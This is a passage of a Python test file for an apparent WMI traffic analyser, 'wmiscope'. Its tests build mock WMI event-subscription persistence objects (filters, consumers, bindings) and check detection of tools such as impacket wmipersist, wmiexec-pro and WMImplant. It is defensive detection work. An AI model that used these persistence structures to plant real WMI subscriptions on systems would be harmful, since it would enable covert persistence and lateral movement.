                       put("__IntervalTimerInstruction", 12, TimerId=tag, IntervalBetweenEvents=1000),
                       put("__EventFilter", 14, Name=tag, Query=f'select * from __TimerEvent where TimerID = "{tag}" '),
                       put("__FilterToConsumerBinding", 16, Filter=f'__EventFilter.Name="{tag}"',
                           Consumer=f'ActiveScriptEventConsumer.Name="{tag}"'))
    assert pro["tool"]["name"] == "wmiexec-pro" and pro["wmi"]["subscription"]["timers"][0]["interval_ms"] == 1000
    assert set(pro["frames"]) >= {10, 12, 14, 16}
    (persist,) = _findings(put("CommandLineEventConsumer", 10, Name="updater", CommandLineTemplate="calc.exe"),
                           put("__EventFilter", 12, Name="EF_updater", Query="SELECT * FROM __InstanceCreationEvent"))
    assert persist["tool"]["name"] == "impacket wmipersist" and persist["command_line"] == "calc.exe"
    (other,) = _findings(put("CommandLineEventConsumer", 10, Name="updater", CommandLineTemplate="calc.exe"),
                         put("__EventFilter", 12, Name="EF_other", Query="SELECT * FROM __InstanceCreationEvent"))
    assert other["tool"] is None


def test_readme_json_line_is_what_the_command_prints(capsys):
    readme = (tshark_util.ROOT / "README.md").read_text()
    shown = next(line.strip() for line in readme.splitlines() if line.strip().startswith('{"@timestamp"'))
    assert main(["report", str(PCAPS / "wmi-process-create-ntlm-signed.pcap")]) == 0
    printed = capsys.readouterr().out.splitlines()[1]
    expected = json.loads(shown)
    got = json.loads(printed)
    expected["wmi"].pop("capture"), got["wmi"].pop("capture")      # the path as the reader types it
    assert got == expected


def test_an_interrupted_live_capture_still_reports_what_it_saw():
    from wmiscope.dissectors.capture import open_capture
    from wmiscope.dissectors.pipeline import Analysis
    from wmiscope.report.output import analyse_captures

    def live():     # frames as a live capture yields them, then the analyst's Ctrl-C
        for raw in open_capture(str(CAPTURES / "impacket_wmiexec.pcapng")):
            if raw[0] > 120:
                raise KeyboardInterrupt
            yield raw

    r = analyse_captures(live(), Analysis, name="live:eth0")
    assert [c["name"] for c in r["captures"]] == ["live:eth0"] and r["captures"][0]["interrupted"] is True
    assert [f["rule"] for f in r["findings"]] == ["namespace-login"] + ["process-create"] * 3


def test_sealed_puts_on_root_subscription_are_likely_persistence():
    def sealed(method, frame, req, resp):
        d = _call(method, frame=frame, op={"id": f"op-{frame}", "kind": method,
                                           "namespace": r"\\DC01\root\subscription", "role": "origin"})
        d.update(encrypted=True, outcome="encrypted", decoded=None)
        d["request"]["stub_len"], d["response"]["stub_len"] = req, resp
        return d

    login = _call("NTLMLogin", [("wszNetworkResource", r"\\DC01\root\subscription")], iface="IWbemLevel1Login",
                  frame=4)
    (seen, inferred) = _findings(login, *(sealed("PutInstance", f, 900, 16) for f in (10, 20, 30)))
    assert seen["rule"] == "namespace-login"
    assert (inferred["rule"], inferred["basis"], inferred["confidence"]) == ("sealed-event-subscription", "inferred",
                                                                             0.8)
    assert inferred["techniques"][0]["id"] == "T1546.003" and {10, 20, 30} <= set(inferred["frames"])
    # the same puts on root\cimv2 say nothing about persistence
    cimv2 = _call("NTLMLogin", [("wszNetworkResource", r"\\DC01\root\cimv2")], iface="IWbemLevel1Login", frame=4)
    puts = [sealed("PutInstance", 10, 900, 16)]
    puts[0]["operation"]["namespace"] = r"\\DC01\root\cimv2"
    assert [f["rule"] for f in _findings(cimv2, *puts)] == ["namespace-login"]


def test_sealed_queries_are_low_confidence_leads():
    def sealed(method, frame, req, resp, op="op-9", iface="IWbemServices"):
        d = _call(method, frame=frame, iface=iface, op={"id": op, "kind": "CreateInstanceEnum",
                                                        "namespace": r"\\DC01\root\cimv2", "role": "origin"})
        d.update(encrypted=True, outcome="encrypted", decoded=None)
        d["request"]["stub_len"], d["response"]["stub_len"] = req, resp
        return d

    # an enumeration whose Next replies carry nothing says less than one that brought objects back
    (empty,) = _findings(sealed("CreateInstanceEnum", 10, 120, 80),
                         sealed("Next", 12, 40, 24, iface="IEnumWbemClassObject"))
    assert (empty["rule"], empty["basis"], empty["confidence"]) == ("sealed-query", "inferred", 0.4)
    assert "returned" not in empty["title"] and {10, 12} <= set(empty["frames"])
    (full,) = _findings(sealed("CreateInstanceEnum", 10, 120, 80),
                        sealed("Next", 12, 40, 5000, iface="IEnumWbemClassObject"))
    assert full["confidence"] == 0.5 and full["wmi"]["result_bytes"] == 5000


@pytest.mark.parametrize("capture", [CAPTURES / "LM_WMI_ProcessCallCreate.pcapng", CAPTURES / "wmimplant.pcap",
                                     PCAPS / "wmi-async-query-callbacks.pcap",
                                     PCAPS / "wmi-persistence-subscription.pcap"], ids=lambda p: p.name)
def test_sessions_kept_on_disk_give_the_same_report(capture):
    """With one session in memory, every other one goes to the report's temporary store and
    comes back when its connection is touched again or the output reads it: the report, JSON
    and HTML (sealed calls' excerpts, the timeline's two passes), is the one held in memory."""
    from wmiscope.dissectors.pipeline import Analysis
    from wmiscope.report.html import render_html
    from wmiscope.report.output import analyse_captures, close_report, write_json

    def outputs(**kw) -> tuple[str, str, int]:
        r = analyse_captures(str(capture), Analysis, excerpts=True, **kw)
        r["generated"] = "-"
        spilled = len(r["sessions"]._store._spilled) + len(r["findings"]._store._spilled)
        json_text: list[str] = []
        write_json(r, json_text.append)
        html = render_html(r)
        close_report(r)
        return "".join(json_text), html, spilled

    held_json, held_html, none_spilled = outputs()
    json_text, html, spilled = outputs(live_sessions=1, live_findings=1)
    assert none_spilled == 0 and spilled >= 1
    assert json.loads(held_json)["sessions"] and "Transcript excerpt" in held_html
    assert json_text == held_json and html == held_html


def test_session_call_rows_name_the_findings_they_made(capsys):
    # The rows are made as the calls are seen, before the findings are numbered in time
    # order: each row must still name its findings by the ids the report gives them.
    r = report(capsys, CAPTURES / "wmimplant.pcap")
    ids = {f["id"] for f in r["findings"]}
    named = [x for s in r["sessions"] for c in s["calls"] for x in c.get("findings", ())]
    assert named and set(named) <= ids
    assert set(named) == ids - {f["id"] for f in r["findings"] if f["basis"] != "observed"}
